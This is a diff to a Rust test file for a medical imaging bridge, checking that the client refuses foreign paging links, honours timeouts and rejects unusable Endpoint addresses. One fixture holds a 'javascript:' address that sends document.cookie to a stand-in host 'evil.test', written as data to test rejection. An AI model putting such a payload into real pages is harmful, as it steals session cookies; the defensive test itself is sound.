@@ -1,15 +1,19 @@
 //! Faults a real server cannot be made to show on demand, served by `FaultyServer`, a
 //! deliberately misbehaving HTTP server on loopback that answers from a script and records what
 //! it received: 503 + Retry-After, 401 until a fresh token arrives, truncated multipart bodies,
-//! stalled bodies, and an Endpoint on a foreign origin.
+//! stalled bodies and silent servers, an Endpoint on a foreign origin or at an address no
+//! browser fetches, a `next` link to another origin, and an Endpoint that contradicts the
+//! configured DICOMweb base.
 #![cfg(not(target_arch = "wasm32"))]
 #![allow(clippy::unwrap_used, clippy::expect_used)] // a test: a panic is its failure
 
-use emr_imaging::bridge::{BridgeConfig, BridgeError, ImagingBridge};
+use emr_imaging::bridge::{BridgeConfig, BridgeError, ImagingBridge, Source, Study};
 use emr_imaging::dicomweb::DicomWebError;
+use emr_imaging::fhir::{FhirError, StudyFilter};
 use emr_imaging::net::native::{block_on, UreqTransport};
-use emr_imaging::net::{AuthMapper, CancelToken, HttpClient, NetError, Request, Response, TokenProvider, Transport};
-use std::cell::RefCell;
+use emr_imaging::net::{AuthMapper, CancelToken, HttpClient, NetError, Request, Response, Timeouts, TokenProvider, Transport};
+use emr_imaging::session::{Screen, Session, SessionConfig, SessionError, Update};
+use std::cell::{Cell, RefCell};
 use std::rc::Rc;
 use std::sync::{Arc, Mutex};
 use std::time::{Duration, Instant};
@@ -30,17 +34,25 @@ impl Seen {
     }
 }
 
-/// One scripted answer: status, headers, body, and an optional stall before the body.
+/// One scripted answer: status, headers, body, an optional silence before anything is sent
+/// (the connection accepted, then nothing), and an optional stall before the body's end.
 #[derive(Clone)]
 struct Answer {
     status: u16,
     headers: Vec<(&'static str, String)>,
     body: Vec<u8>,
+    silence: Option<Duration>,
     stall: Option<Duration>,
 }
 
 fn answer(status: u16, body: &str) -> Answer {
-    Answer { status, headers: vec![("Content-Type", "application/json".into())], body: body.as_bytes().to_vec(), stall: None }
+    Answer {
+        status,
+        headers: vec![("Content-Type", "application/json".into())],
+        body: body.as_bytes().to_vec(),
+        silence: None,
+        stall: None,
+    }
 }
 
 type Script = Arc<dyn Fn(&str, Option<&str>, usize) -> Answer + Send + Sync>;
@@ -78,6 +90,9 @@ impl FaultyServer {
                         nth
                     };
                     let a = script(&path, authorization.as_deref(), nth);
+                    if let Some(silence) = a.silence {
+                        std::thread::sleep(silence);
+                    }
                     let headers: Vec<tiny_http::Header> =
                         a.headers.iter().map(|(k, v)| tiny_http::Header::from_bytes(k.as_bytes(), v.as_bytes()).unwrap()).collect();
                     // A stalling body promises twice what it sends, so the client keeps waiting.
@@ -131,7 +146,7 @@ impl std::io::Read for StallingBody {
 fn client(server: &FaultyServer, token: Option<&str>) -> HttpClient<UreqTransport> {
     let auth = AuthMapper::new(&server.url("/fhir/"), &[]);
     auth.set_token(token.map(str::to_string));
-    HttpClient::new(UreqTransport::with_timeout(Duration::from_secs(3)), auth)
+    HttpClient::new(UreqTransport::new(), auth).with_timeouts(Timeouts::all(Duration::from_secs(3)))
 }
 
 #[test]
@@ -281,7 +296,7 @@ fn fhir_script(pacs_port: u16) -> Script {
 }
 
 fn bridge(fhir: &FaultyServer) -> ImagingBridge<UreqTransport> {
-    let config = BridgeConfig { fhir_base: fhir.url("/fhir/"), allowed_origins: vec![], memory_budget: 1 << 20 };
+    let config = BridgeConfig { memory_budget: 1 << 20, ..BridgeConfig::new(fhir.url("/fhir/")) };
     let bridge = ImagingBridge::new(UreqTransport::with_timeout(Duration::from_secs(5)), &config);
     bridge.set_token(Some("secret-token".into()));
     bridge
@@ -383,9 +398,9 @@ fn endpoint_headers_requires_access_token_and_series_level_endpoints() {
     let fhir = FaultyServer::start(fhir_with_endpoint_headers(study_pacs.port, series_pacs.port));
     // Both PACS origins are allowed by the host; the study's Endpoint still declines the token.
     let config = BridgeConfig {
-        fhir_base: fhir.url("/fhir/"),
         allowed_origins: vec![study_pacs.url("/").to_string(), series_pacs.url("/").to_string()],
         memory_budget: 1 << 20,
+        ..BridgeConfig::new(fhir.url("/fhir/"))
     };
     let bridge = ImagingBridge::new(UreqTransport::with_timeout(Duration::from_secs(5)), &config);
     bridge.set_token(Some("secret-token".into()));
@@ -500,7 +515,7 @@ fn a_prefetch_runs_in_display_order_and_stale_work_is_dropped() {
         after: 3,
         sent: Default::default(),
     };
-    let config = BridgeConfig { fhir_base: fhir.url("/fhir/"), allowed_origins: vec![], memory_budget: 1 << 20 };
+    let config = BridgeConfig { memory_budget: 1 << 20, ..BridgeConfig::new(fhir.url("/fhir/")) };
     let bridge = ImagingBridge::new(transport, &config);
     let studies = block_on(bridge.get_patient_studies("p1")).expect("studies");
     let series = studies[0].series.iter().find(|s| s.uid == "1.2.3.7").expect("QIDO series").clone();
@@ -532,4 +547,280 @@ fn a_streamed_series_retrieve_delivers_whole_instances_then_reports_the_truncati
     let err = block_on(dicomweb.retrieve_series(&http, "1.2", "1.2.3", None, &mut |r| got.push(r.bytes))).unwrap_err();
     assert!(matches!(err, DicomWebError::Multipart(emr_imaging::dicomweb::multipart::MultipartError::Truncated)), "{err}");
     assert_eq!(got, [b"ONE".to_vec(), b"TWO".to_vec()], "complete parts only, never the cut one");
+}
+
+/// Every update and failure a session shows.
+#[derive(Default)]
+struct Recorder {
+    updates: RefCell<Vec<Update>>,
+    failures: RefCell<Vec<SessionError>>,
+}
+
+impl Screen for Recorder {
+    fn apply(&self, update: Update) {
+        self.updates.borrow_mut().push(update);
+    }
+    fn failed(&self, error: &SessionError) {
+        self.failures.borrow_mut().push(error.clone());
+    }
+}
+
+impl Recorder {
+    fn listed(&self) -> Vec<Study> {
+        self.updates.borrow().iter().rev().find_map(|u| if let Update::Studies(s) = u { Some(s.clone()) } else { None }).unwrap_or_default()
+    }
+}
+
+/// The native transport, recording every URL that reached it and every wait (a retry's backoff).
+struct Recording {
+    inner: UreqTransport,
+    sent: RefCell<Vec<String>>,
+    sleeps: Cell<usize>,
+}
+
+impl Recording {
+    fn new() -> Rc<Recording> {
+        Rc::new(Recording { inner: UreqTransport::new(), sent: RefCell::default(), sleeps: Cell::new(0) })
+    }
+}
+
+impl Transport for Recording {
+    async fn send(&self, request: Request) -> Result<Response, NetError> {
+        self.sent.borrow_mut().push(request.url.to_string());
+        self.inner.send(request).await
+    }
+    async fn sleep(&self, duration: Duration) {
+        self.sleeps.set(self.sleeps.get() + 1);
+        self.inner.sleep(duration).await
+    }
+    fn now_unix(&self) -> f64 {
+        self.inner.now_unix()
+    }
+    fn jitter(&self) -> f64 {
+        self.inner.jitter()
+    }
+}
+
+/// A PACS that knows one series per study and answers every instance with `WHOLE`.
+fn whole_pacs() -> FaultyServer {
+    FaultyServer::start(Arc::new(|path: &str, _: Option<&str>, _| {
+        if path.ends_with("/series") {
+            answer(200, r#"[{"0020000E":{"vr":"UI","Value":["1.2.3.4"]},"00200011":{"vr":"IS","Value":[1]}}]"#)
+        } else if path.ends_with("/instances") {
+            answer(200, r#"[{"00080018":{"vr":"UI","Value":["1.2.3.9.1"]},"00200013":{"vr":"IS","Value":[1]}}]"#)
+        } else if path.ends_with("/metadata") {
+            answer(200, r#"[{"00080018":{"vr":"UI","Value":["1.2.3.4.5"]}}]"#)
+        } else if path.contains("/instances/") {
+            multipart("--b\r\n\r\nWHOLE\r\n--b--")
+        } else {
+            answer(404, "")
+        }
+    }))
+}
+
+#[test]
+fn a_configured_base_wins_over_a_conflicting_endpoint() {
+    // The study's Endpoints (study level, included; series level, read on demand) name `elsewhere`.
+    let elsewhere = FaultyServer::start(Arc::new(|_, _, _| answer(200, "[]")));
+    let base = whole_pacs();
+    let fhir = FaultyServer::start(fhir_with_endpoint_headers(elsewhere.port, elsewhere.port));
+    let configured = base.url("/dicom-web");
+    let config = BridgeConfig { dicomweb_base: Some(configured.clone()), ..BridgeConfig::new(fhir.url("/fhir/")) };
+    let bridge = ImagingBridge::new(UreqTransport::new(), &config);
+    bridge.set_token(Some("secret-token".into()));
+
+    let studies = block_on(bridge.get_patient_studies("p1")).expect("studies");
+    let study = &studies[0];
+    assert_eq!(study.dicomweb_base.as_deref(), Some(configured.as_str()), "the Study names the server its images come from");
+    assert_eq!(study.source, Source::Enriched, "enriched by the configured base");
+    assert!(study.series.iter().all(|s| s.dicomweb_base.is_none()), "no series-level Endpoint overrides it");
+    let json = serde_json::to_value(study).unwrap();
+    assert_eq!((json["dicomwebBase"].as_str(), json["source"]["kind"].as_str()), (Some(configured.as_str()), Some("enriched")));
+
+    block_on(bridge.get_instance(study, "1.2.3.4", "1.2.3.4.5", &CancelToken::new())).expect("study-level series");
+    block_on(bridge.get_instance(study, "1.2.3.9", "1.2.3.9.1", &CancelToken::new())).expect("the series with its own Endpoint");
+    let client = bridge.client_for_series(study, Some("1.2.3.9")).expect("client");
+    block_on(client.search_instances(bridge.http(), "1.2.3", "1.2.3.9")).expect("QIDO instances");
+    let _ = block_on(client.instance_metadata(bridge.http(), "1.2.3", "1.2.3.4", "1.2.3.4.5"));
+    let _ = block_on(client.retrieve_thumbnail(bridge.http(), "1.2.3", Some("1.2.3.4"), None));
+
+    assert!(elsewhere.seen().is_empty(), "nothing went to the Endpoints' server: {:?}", elsewhere.seen());
+    assert!(!fhir.seen().iter().any(|s| s.path.contains("/Endpoint/")), "no Endpoint was even read");
+    let at_base = base.seen();
+    for tail in ["/studies/1.2.3/series", "/series/1.2.3.4/instances/1.2.3.4.5", "/series/1.2.3.9/instances/1.2.3.9.1"] {
+        assert!(at_base.iter().any(|s| s.path.ends_with(tail)), "{tail} at the base: {at_base:?}");
+    }
+    for tail in ["/series/1.2.3.9/instances", "/instances/1.2.3.4.5/metadata", "/series/1.2.3.4/thumbnail"] {
+        assert!(at_base.iter().any(|s| s.path.ends_with(tail)), "{tail} at the base: {at_base:?}");
+    }
+    for seen in &at_base {
+        assert_eq!(
+            seen.authorization.as_deref(),
+            Some("Bearer secret-token"),
+            "the host named the base: it gets the token ({})",
+            seen.path
+        );
+        assert_eq!(seen.header("X-Api-Key"), None, "the Endpoint's headers belong to the Endpoint's server");
+    }
+}
+
+/// A FHIR search whose first page has two studies and whose `next` link leads to `next_port`;
+/// that server's page has a third.
+fn paging_script(next_port: u16) -> Script {
+    Arc::new(move |path, _, _| {
+        let study = |id: &str, uid: &str| {
+            serde_json::json!({"resource": {"resourceType": "ImagingStudy", "id": id, "started": format!("2024-01-0{}", uid.len() % 9),
+                "identifier": [{"system": "urn:dicom:uid", "value": format!("urn:oid:{uid}")}], "subject": {"reference": "Patient/p1"}}})
+        };
+        if path.starts_with("/fhir/ImagingStudy?") && !path.contains("page=2") {
+            answer(
+                200,
+                &serde_json::json!({"resourceType": "Bundle", "type": "searchset",
+                    "link": [{"relation": "next", "url": format!("http://127.0.0.1:{next_port}/fhir/ImagingStudy?patient=p1&page=2")}],
+                    "entry": [study("s1", "1.2.1"), study("s2", "1.2.22")]})
+                .to_string(),
+            )
+        } else if path.contains("page=2") {
+            answer(200, &serde_json::json!({"resourceType": "Bundle", "type": "searchset", "entry": [study("s3", "1.2.333")]}).to_string())
+        } else {
+            answer(404, "")
+        }
+    })
+}
+
+#[test]
+fn a_foreign_next_link_is_refused_and_the_first_page_kept() {
+    let foreign = FaultyServer::start(paging_script(0));
+    let fhir = FaultyServer::start(paging_script(foreign.port));
+    let bridge = bridge(&fhir);
+    let list = block_on(bridge.patient_studies("p1", &StudyFilter::default())).expect("the first page is an answer");
+    let mut uids: Vec<&str> = list.studies.iter().map(|s| s.study_uid.as_str()).collect();
+    uids.sort();
+    assert_eq!(uids, ["1.2.1", "1.2.22"], "the first page's studies are kept");
+    let Some(BridgeError::Fhir(FhirError::ForeignPage { url })) = &list.incomplete else {
+        panic!("a typed refusal: {:?}", list.incomplete)
+    };
+    assert!(url.contains(&format!("127.0.0.1:{}/fhir/ImagingStudy", foreign.port)), "the error names the link: {url}");
+    assert!(foreign.seen().is_empty(), "no request reached the other origin");
+    let strict = block_on(bridge.get_patient_studies("p1")).unwrap_err();
+    assert!(matches!(strict, BridgeError::Fhir(FhirError::ForeignPage { .. })), "a caller asking for every study hears why: {strict}");
+
+    // A deployment that really pages across hosts names the other origin.
+    let config = BridgeConfig { allowed_origins: vec![foreign.url("/").to_string()], ..BridgeConfig::new(fhir.url("/fhir/")) };
+    let widened = ImagingBridge::new(UreqTransport::new(), &config);
+    widened.set_token(Some("secret-token".into()));
+    let all = block_on(widened.get_patient_studies("p1")).expect("every page");
+    assert_eq!(all.len(), 3);
+    assert_eq!(foreign.seen().len(), 1);
+    assert_eq!(foreign.seen()[0].authorization.as_deref(), Some("Bearer secret-token"), "an allowed origin is trusted alike");
+}
+
+#[test]
+fn a_silent_fhir_server_ends_in_timeout_at_the_configured_limit() {
+    let fhir = FaultyServer::start(Arc::new(|path: &str, _: Option<&str>, _| {
+        if path.starts_with("/fhir/ImagingStudy") {
+            // Accepts the connection, then says nothing for longer than the limit.
+            let mut a = answer(200, "{}");
+            a.silence = Some(Duration::from_secs(8));
+            a
+        } else if path.starts_with("/fhir/Patient/p1") {
+            answer(200, r#"{"resourceType": "Patient", "id": "p1", "name": [{"family": "Doe"}]}"#)
+        } else {
+            answer(404, "")
+        }
+    }));
+    let config = BridgeConfig { timeouts: Timeouts::all(Duration::from_secs(2)), ..BridgeConfig::new(fhir.url("/fhir/")) };
+    let screen = Rc::new(Recorder::default());
+    let session = Session::new(ImagingBridge::new(UreqTransport::new(), &config), SessionConfig::default(), screen.clone());
+    let started = Instant::now();
+    let result = block_on(session.open_patient("p1"));
+    let elapsed = started.elapsed();
+    println!("silent FHIR server, 2 s limit: open_patient failed after {:.2} s", elapsed.as_secs_f64());
+    let timeout = SessionError::Bridge(BridgeError::Fhir(FhirError::Net(NetError::Timeout {
+        url: format!("{}ImagingStudy?patient=p1&_include=ImagingStudy%3Aendpoint&_count=100", fhir.url("/fhir/")),
+        seconds: 2,
+    })));
+    assert_eq!(result, Err(timeout.clone()));
+    assert_eq!(*screen.failures.borrow(), [timeout], "the user and the host hear of it");
+    assert!(elapsed >= Duration::from_millis(1900) && elapsed < Duration::from_secs(6), "at the configured limit: {elapsed:?}");
+    assert_eq!(fhir.seen().iter().filter(|s| s.path.starts_with("/fhir/ImagingStudy")).count(), 1, "a timeout is not retried");
+}
+
+/// Four studies of p1, each with a contained Endpoint: one on `pacs_port` (the oldest), and,
+/// newest first, one with userinfo (on `trap_port`), a `data:` and a `javascript:` address.
+fn unusable_endpoints_script(pacs_port: u16, trap_port: u16) -> Script {
+    Arc::new(move |path, _, _| {
+        let study = |id: &str, started: &str, address: String| {
+            serde_json::json!({"resource": {"resourceType": "ImagingStudy", "id": id, "started": started,
+                "identifier": [{"system": "urn:dicom:uid", "value": format!("urn:oid:1.2.{}", id.len())}],
+                "subject": {"reference": "Patient/p1"},
+                "contained": [{"resourceType": "Endpoint", "id": "pacs", "status": "active",
+                    "connectionType": {"code": "dicom-wado-rs"}, "address": address}],
+                "endpoint": [{"reference": "#pacs"}],
+                "series": [{"uid": "1.2.3.4", "instance": [{"uid": "1.2.3.4.5", "number": 1}]}]}})
+        };
+        let path = path.split('?').next().unwrap_or_default();
+        match path {
+            "/fhir/ImagingStudy" => answer(
+                200,
+                &serde_json::json!({"resourceType": "Bundle", "type": "searchset", "entry": [
+                    study("good", "2020-01-01", format!("http://127.0.0.1:{pacs_port}/dicom-web")),
+                    study("userinfo", "2024-03-01", format!("http://user:pass@127.0.0.1:{trap_port}/dicom-web")),
+                    study("data-url", "2024-02-01", "data:application/dicom;base64,AAAA".into()),
+                    study("javascript-url", "2024-01-01", "javascript:fetch('//evil.test/'+document.cookie)".into())]})
+                .to_string(),
+            ),
+            "/fhir/Patient/p1" => answer(200, r#"{"resourceType": "Patient", "id": "p1", "name": [{"family": "Doe"}]}"#),
+            _ => answer(404, ""),
+        }
+    })
+}
+
+#[test]
+fn unusable_endpoint_addresses_fail_at_once_and_the_rest_still_loads() {
+    let trap = FaultyServer::start(Arc::new(|_, _, _| answer(200, "[]")));
+    let pacs = whole_pacs();
+    let fhir = FaultyServer::start(unusable_endpoints_script(pacs.port, trap.port));
+    let transport = Recording::new();
+    let bridge = ImagingBridge::new(transport.clone(), &BridgeConfig::new(fhir.url("/fhir/")));
+    bridge.set_token(Some("secret-token".into()));
+    let screen = Rc::new(Recorder::default());
+    let session = Session::new(bridge, SessionConfig::default(), screen.clone());
+
+    // The newest study is the userinfo one: opening it fails, the list stands.
+    let started = Instant::now();
+    let opened = block_on(session.open_patient("p1"));
+    println!("list of 4 and the newest (userinfo) study refused in {:.1} ms", started.elapsed().as_secs_f64() * 1e3);
+    let unusable =
+        |e: &SessionError| matches!(e, SessionError::Bridge(BridgeError::DicomWeb(DicomWebError::Net(NetError::UnusableAddress { .. }))));
+    assert!(opened.as_ref().is_err_and(unusable), "{opened:?}");
+    let listed = screen.listed();
+    assert_eq!(listed.len(), 4, "every study is listed");
+    for study in &listed {
+        match study.fhir_id.as_str() {
+            "good" => assert_eq!(study.source, Source::Enriched),
+            other => assert!(
+                matches!(&study.source, Source::InvalidEndpoint { message } if !message.contains("user:pass")),
+                "{other}: {:?}",
+                study.source
+            ),
+        }
+    }
+    for study in &listed {
+        let started = Instant::now();
+        let got = block_on(session.bridge().get_instance(study, "1.2.3.4", "1.2.3.4.5", &CancelToken::new()));
+        let ms = started.elapsed().as_secs_f64() * 1e3;
+        println!("{:>14}: {} in {ms:.2} ms", study.fhir_id, if got.is_ok() { "image" } else { "invalid-url" });
+        match study.fhir_id.as_str() {
+            "good" => assert_eq!(got.expect("the good study loads").as_slice(), b"WHOLE"),
+            _ => assert!(got.map_err(SessionError::from).is_err_and(|e| unusable(&e))),
+        }
+    }
+    assert!(trap.seen().is_empty(), "the userinfo address never reached its server");
+    let sent = transport.sent.borrow();
+    assert!(
+        sent.iter().all(|u| u.starts_with("http://127.0.0.1:") && !u.contains('@')),
+        "only plain addresses reached the network: {sent:?}"
+    );
+    assert_eq!(transport.sleeps.get(), 0, "nothing was retried");
 }
